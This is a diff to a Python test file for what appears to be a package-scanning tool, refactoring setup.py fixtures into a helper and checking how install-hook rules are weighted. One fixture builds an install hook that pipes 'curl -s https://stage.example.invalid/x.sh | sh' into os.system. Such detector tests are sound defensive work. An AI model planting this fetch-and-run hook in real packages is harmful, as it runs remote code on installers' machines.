@@ -26,6 +26,17 @@ def weight(rule_id: str, files: dict[str, str]) -> float:
     return max((f.weight for f in RULES[rule_id].check(ctx)), default=0.0)
 
 
+def _install_hook(body: str) -> str:
+    """A setup.py whose ``install`` override runs ``body`` (one line) after installing."""
+    return (
+        "import os\nfrom setuptools import setup\n"
+        "from setuptools.command.install import install\n\n"
+        "class I(install):\n    def run(self):\n        install.run(self)\n"
+        f"        {body}\n\n"
+        "setup(name='demo', cmdclass={'install': I})\n"
+    )
+
+
 def test_a_request_at_import_weighs_more_than_a_client_created_there() -> None:
     request = "import requests\nrequests.get('https://x.example.invalid/ping')\n"
     client = "import requests\nSESSION = requests.Session()\n"
@@ -35,15 +46,8 @@ def test_a_request_at_import_weighs_more_than_a_client_created_there() -> None:
 
 
 def test_an_install_hook_running_a_fetch_weighs_more_than_one_running_a_program() -> None:
-    setup = (
-        "import os\nfrom setuptools import setup\n"
-        "from setuptools.command.install import install\n\n"
-        "class I(install):\n    def run(self):\n        install.run(self)\n"
-        "        cmd = {cmd!r}\n        os.system(cmd)\n\n"
-        "setup(name='demo', cmdclass={{'install': I}})\n"
-    )
-    fetch = setup.format(cmd="curl -s https://stage.example.invalid/x.sh | sh")
-    plain = setup.format(cmd="notify-send done")
+    fetch = _install_hook("cmd = 'curl -s https://stage.example.invalid/x.sh | sh'; os.system(cmd)")
+    plain = _install_hook("cmd = 'notify-send done'; os.system(cmd)")
     assert weight("install-hook", {"setup.py": fetch}) > weight("install-hook", {"setup.py": plain})
 
 
@@ -492,15 +496,8 @@ def test_reading_system_text_or_splitting_a_build_command_is_build_tooling() -> 
 
 
 def test_an_install_hook_running_only_build_tools_weighs_less_than_one_running_a_program() -> None:
-    setup = (
-        "import os\nfrom setuptools import setup\n"
-        "from setuptools.command.install import install\n\n"
-        "class I(install):\n    def run(self):\n        install.run(self)\n"
-        "        os.system({cmd})\n\n"
-        "setup(name='demo', cmdclass={{'install': I}})\n"
-    )
-    tool = setup.format(cmd="'install_name_tool -change a {} {}'.format(LIB, SO)")
-    program = setup.format(cmd="'notify-send {}'.format(NAME)")
+    tool = _install_hook("os.system('install_name_tool -change a {} {}'.format(LIB, SO))")
+    program = _install_hook("os.system('notify-send {}'.format(NAME))")
     assert weight("install-hook", {"setup.py": tool}) < weight(
         "install-hook", {"setup.py": program}
     )
